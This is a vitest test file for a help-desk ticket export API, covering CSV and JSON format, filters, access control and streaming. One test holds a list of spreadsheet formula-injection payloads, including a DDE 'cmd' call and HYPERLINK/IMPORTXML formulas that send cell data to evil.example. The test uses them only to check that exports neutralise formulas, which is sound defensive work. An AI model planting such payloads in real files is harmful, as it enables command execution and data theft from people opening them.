import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { get } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import type { Ticket } from "@sidedesk/contract";
import mongoose from "mongoose";
import { describe, expect, it } from "vitest";
import { problemOf } from "../../../test/support/app.ts";
import {
  buildCustomer,
  buildSite,
  buildStaff,
  buildTicket,
  type TestCustomer,
  type TestSite,
} from "../../../test/support/factories.ts";
import { startTestDesk } from "../../../test/support/test-desk.ts";
import { until } from "../../../test/support/until.ts";
import { tickets } from "../tickets/ticket.model.ts";
import { importTickets } from "./import-tickets.ts";

const csv = "/v1/support/exports/tickets.csv";
const json = "/v1/support/exports/tickets.json";
const columns =
  "number,subject,description,status,priority,category,tags,customer_email,customer_name,assignee_email,created_at,updated_at,first_responded_at,resolved_at,rating";
/** What spreadsheets would run, in every spelling that begins with one of the six characters. */
const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "=1+1,=2+2",
  '="quoted"',
];
let large: TestSite;
const { app, site, agent } = await startTestDesk();
const customer = await buildCustomer(app, site, { name: "=Mara;Lindqvist" });

const rowsOf = (text: string): Record<string, string>[] =>
  parse<Record<string, string>>(text, { columns: true, bom: true });

describe("T16 export", () => {
  it("is CSV with a mark, a header, CRLF and the columns of the import, or one JSON array as the API shows tickets", async () => {
    const made = await buildTicket(app, customer, {
      subject: 'A "quoted", one',
      tags: ["vip", "eu"],
      priority: "high",
    });
    await app.patch(`/v1/support/tickets/${made.id}`, { as: agent, body: { assigneeId: agent.id } });
    const reply = await app.get(`${csv}?tag=vip`, { as: agent });
    expect(reply.status).toBe(200);
    expect(reply.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(reply.headers.get("content-disposition")).toMatch(/^attachment; filename="tickets-\d{4}-\d\d-\d\d\.csv"$/);
    expect(reply.headers.get("sidedesk-total")).toBe("1");
    const bytes = await rawOf(`${csv}?tag=vip`);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString("utf8").slice(1).split("\r\n");
    expect([lines[0], lines.length, lines.at(-1)]).toEqual([columns, 3, ""]);
    expect(rowsOf(bytes.toString("utf8"))).toEqual([
      expect.objectContaining({
        number: made.number,
        subject: 'A "quoted", one',
        status: "open",
        priority: "high",
        category: "general",
        tags: "vip,eu",
        customer_email: customer.email,
        customer_name: "'=Mara;Lindqvist",
        assignee_email: agent.email,
        created_at: made.createdAt,
        first_responded_at: "",
        rating: "",
      }),
    ]);
    const array = await app.get(`${json}?tag=vip`, { as: site.secretKey });
    const { descriptionHtml: _html, ...shown } = (await app.get(`/v1/support/tickets/${made.id}`, { as: agent })).body;
    expect(array.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(array.body).toEqual([shown]);
    expect((await app.get(`${json}?tag=nothing`, { as: agent })).body).toEqual([]);
  });

  it("takes the list's filters, also q, and refuses what it does not know", async () => {
    const one = await buildTicket(app, customer, { subject: "Zanzibar is late", category: "billing" });
    await buildTicket(app, customer, { subject: "Zanzibar again" });
    const numbers = async (query: string) =>
      ((await app.get(`${json}?${query}`, { as: agent })).body as Ticket[]).map(({ number }) => number);
    expect(await numbers("q=zanzibar&category=billing")).toEqual([one.number]);
    expect(await numbers(`q=${one.number}`)).toEqual([one.number]);
    expect((await numbers("q=zanzibar")).length).toBe(2);
    expect((await numbers("status=closed")).length).toBe(0);
    for (const query of ["limit=5", "cursor=x", "sort=updatedAt", "status=lost", "colour=red"]) {
      const reply = await app.get(`${csv}?${query}`, { as: agent });
      expect([query, reply.status, problemOf(reply).code]).toEqual([query, 400, "validation_failed"]);
    }
  });

  it("is for staff and server keys of the site", async () => {
    const stranger = await buildStaff(app, await buildSite(), { role: "owner" });
    const viewer = await buildStaff(app, site, { role: "viewer" });
    for (const path of [csv, json]) {
      expect((await app.get(path)).status).toBe(401);
      expect((await app.get(path, { as: site.publicKey })).status).toBe(401);
      expect((await app.get(path, { as: customer })).status).toBe(403);
      expect((await app.get(path, { as: viewer })).status).toBe(200);
      expect((await app.get(path, { as: stranger, headers: { "x-site": site.slug } })).status).toBe(404);
      expect(String((await app.get(path, { as: stranger })).body)).not.toContain("TKT-");
    }
  });

  it("makes formulas harmless in every column that somebody can write, and takes them back at an import", async () => {
    const corpus = await buildSite();
    await app.patch(`/v1/sites/${corpus.slug}/settings`, {
      as: await buildStaff(app, corpus, { role: "owner" }),
      body: {
        categories: [
          {
            key: "general",
            label: "General",
            fields: [
              { key: "order", label: "Order", type: "text" },
              { key: "sum", label: "Sum", type: "number" },
            ],
          },
        ],
      },
    });
    await new Promise((resolve) => setTimeout(resolve, 10));
    const writers = await Promise.all(
      formulas.map((formula, index) => buildCustomer(app, corpus, { name: formula, email: `+f${index}@home.example` })),
    );
    for (const [index, formula] of formulas.entries())
      await buildTicket(app, writers[index] as TestCustomer, {
        subject: formula,
        description: `${formula} and more of it`,
        tags: [formula.slice(0, 40)],
        fields: { order: formula, sum: -5 },
      });
    const reply = await app.get(`${csv}?sort=createdAt`, { as: corpus.secretKey });
    const rows = rowsOf(reply.body);
    expect(rows.map(({ subject }) => subject)).toEqual(formulas.map((formula) => `'${formula}`));
    expect(rows[0]).toMatchObject({ field_order: "'=1+1", field_sum: "'-5" });
    for (const row of rows)
      for (const [name, cell] of Object.entries(row)) expect(`${name}: ${cell}`).not.toMatch(/^\w+: [=+\-@\t\r]/);

    const folder = await mkdtemp(join(tmpdir(), "sidedesk-export-"));
    const file = join(folder, "again.csv");
    await writeFile(file, reply.body);
    await tickets().deleteMany({ siteId: corpus.id });
    expect(await importTickets({ siteId: corpus.id, file })).toMatchObject({ imported: formulas.length, rejects: [] });
    const back = (await app.get(`${json}?sort=number`, { as: corpus.secretKey })).body as Ticket[];
    expect(new Set(back.map(({ subject }) => subject))).toEqual(new Set(formulas));
    expect(back[0]?.fields).toEqual({ order: back[0]?.subject, sum: -5 });
    await rm(folder, { recursive: true });
  });

  it(
    "brings each ticket once while tickets change, and holds few of them at a time",
    { timeout: 120_000 },
    async () => {
      large = await buildSite();
      const model = await tickets().findOne({ "customer.id": customer.id });
      const count = 20_000;
      const start = Date.now() - count * 1000;
      for (let done = 0; done < count; done += 2000)
        await tickets().insertMany(
          Array.from({ length: 2000 }, (_none, index) => ({
            ...(model as NonNullable<typeof model>),
            _id: `many-${done + index}`,
            siteId: large.id,
            number: `TKT-20260101-${String(done + index).padStart(8, "0")}`,
            description: "x".repeat(2000),
            // Several share a moment, so that the order must not end there.
            createdAt: new Date(start + Math.floor((done + index) / 7) * 1000),
          })),
        );
      const seen: string[] = [];
      let largest = 0;
      global.gc?.();
      const before = process.memoryUsage().rss;
      let changed = 0;
      const text = await readSlowly(`${csv}?status=open,in_progress`, large.secretKey, async () => {
        largest = Math.max(largest, process.memoryUsage().rss);
        if (changed >= 40) return;
        // Some leave the order's neighbours, some come back into the filter, all move to the head of `updatedAt`.
        await tickets().updateMany(
          {
            siteId: large.id,
            _id: { $in: Array.from({ length: 50 }, (_none, index) => `many-${(changed * 499 + index * 17) % count}`) },
          },
          { $set: { status: changed % 2 === 0 ? "in_progress" : "open", updatedAt: new Date() } },
        );
        changed += 1;
      });
      for (const row of rowsOf(text)) seen.push(row["number"] ?? "");
      expect(changed).toBeGreaterThan(10);
      expect([seen.length, new Set(seen).size]).toEqual([count, count]);
      // The whole is above 42 MB of text; what is held at a time does not grow with it.
      expect((largest - before) / 2 ** 20).toBeLessThan(180);
    },
  );

  it("stops reading when the one who asked has gone", async () => {
    const { db } = mongoose.connection;
    const reads = () =>
      db?.collection("system.profile").countDocuments({ ns: /\.tickets$/, "command.find": "tickets" });
    const token = large.secretKey;
    await db?.setProfilingLevel("all");
    await new Promise<void>((resolve, reject) => {
      const headers = { authorization: `Bearer ${token}`, "accept-encoding": "identity" };
      get(app.url + csv, { headers }, (response) => {
        response.once("data", () => {
          response.destroy();
          resolve();
        });
      }).on("error", reject);
    });
    let seen = -1;
    const isStill = async () => {
      const before = seen;
      seen = (await reads()) ?? 0;
      return seen > 0 && seen === before;
    };
    await until(isStill, { what: "an end of reading", every: 700 });
    await db?.setProfilingLevel("off");
    // The whole takes forty and more.
    expect(seen).toBeLessThan(20);
  });
});

function rawOf(path: string): Promise<Buffer> {
  return fetch(app.url + path, { headers: { authorization: `Bearer ${agent.token}` } }).then(async (response) =>
    Buffer.from(await response.arrayBuffer()),
  );
}

/** Reads piece by piece, doing something between pieces. */
async function readSlowly(path: string, token: string, between: () => Promise<void>): Promise<string> {
  const response = await fetch(app.url + path, {
    headers: { authorization: `Bearer ${token}`, "accept-encoding": "identity" },
  });
  expect(response.headers.get("sidedesk-total")).toBe("20000");
  const pieces: Uint8Array[] = [];
  let sinceLast = 0;
  for await (const piece of response.body as unknown as AsyncIterable<Uint8Array>) {
    pieces.push(piece);
    sinceLast += piece.length;
    if (sinceLast < 500_000) continue;
    sinceLast = 0;
    await between();
  }
  return Buffer.concat(pieces).toString("utf8");
}
